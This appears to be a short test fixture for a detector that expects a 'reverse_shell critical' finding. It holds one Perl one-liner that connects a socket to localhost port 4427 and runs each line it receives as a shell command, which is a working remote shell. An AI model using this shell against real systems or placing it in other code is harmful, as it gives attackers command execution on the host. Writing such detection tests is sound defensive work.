# about: perl runs each line itself
# expect: reverse_shell critical
# needs: python3 perl
peer 4427
timeout 6 perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:4427");STDIN->fdopen($c,"r");$~->fdopen($c,"w");while(<>){last if /exit/; system $_;}' || true
done_typing
